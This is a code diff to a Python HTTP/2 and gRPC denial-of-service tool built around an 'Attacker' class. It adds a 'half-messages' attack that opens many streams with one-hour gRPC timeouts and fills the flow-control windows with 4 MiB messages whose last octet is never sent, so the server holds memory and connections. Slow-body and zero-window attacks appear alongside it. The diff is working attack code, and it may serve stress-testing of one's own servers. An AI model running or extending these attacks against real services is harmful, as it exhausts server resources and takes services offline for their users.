@@ -58,6 +58,7 @@ class Attacker:
         self.opened = 0
         self.over = set()  # the streams that the server has answered or reset
         self.goaway = None
+        self.credit = Counter()
         self.closed = threading.Event()
         self.answered = threading.Event()
         self.frames = self.octets = 0
@@ -154,6 +155,8 @@ class Attacker:
                 self.goaway = int.from_bytes(payload[4:8])
             else:
                 self.received[Kind(kind).name if kind in set(Kind) else "other"] += 1
+                if kind == Kind.WINDOW_UPDATE:
+                    self.credit[int.from_bytes(buffer[at + 5:at + 9])] += int.from_bytes(payload)
             if kind == Kind.RST_STREAM or (kind in (Kind.DATA, Kind.HEADERS) and flags & Flag.END_STREAM):
                 self.over.add(int.from_bytes(buffer[at + 5:at + 9]))
             if kind == Kind.PING and payload == LAST_PING:
@@ -516,6 +519,34 @@ def slow_body(target, patience):
         going = [data(stream, b"\0", end_stream=False) for stream in streams(OPEN_STREAMS) if stream not in attacker.over]
         attacker.send(b"".join(going), len(going))
     return hold(patience, [attacker], "connections of slow bodies", lambda attacker: attacker.spent, go_on)
+
+
+@attack("half-messages", needs_call=True)
+def half_messages(target, patience):
+    """Messages of 4 MiB, as far as the windows let them, that lack their last octet, of calls with an hour of time."""
+    size = 4 * 2**20
+    attacker = Attacker(target)
+    attacker.wait_for(lambda: attacker.received["WINDOW_UPDATE"])
+    sent = Counter()
+    for stream in streams(OPEN_STREAMS):
+        attacker.send(attacker.request(stream, False, ("grpc-timeout", "1H")), 1)
+
+    def room(stream):
+        windows = (STREAM_WINDOW + attacker.credit[stream] - sent[stream], STREAM_WINDOW + attacker.credit[0] - sent.total())
+        return min(*windows, 2**14, size + 4 - sent[stream])
+
+    def go_on(attacker):
+        going = True
+        while going and not attacker.ended:
+            going = False
+            for stream in streams(OPEN_STREAMS):
+                if stream in attacker.over or (count := room(stream)) <= 0:
+                    continue
+                octets = bytes(count) if sent[stream] else b"\0" + size.to_bytes(4) + bytes(count - 5)
+                going = attacker.send(data(stream, octets, end_stream=False), 1)
+                sent[stream] += count
+    go_on(attacker)
+    return hold(patience, [attacker], "connections of half messages", lambda attacker: attacker.spent, go_on)
 
 
 @attack("zero-window")
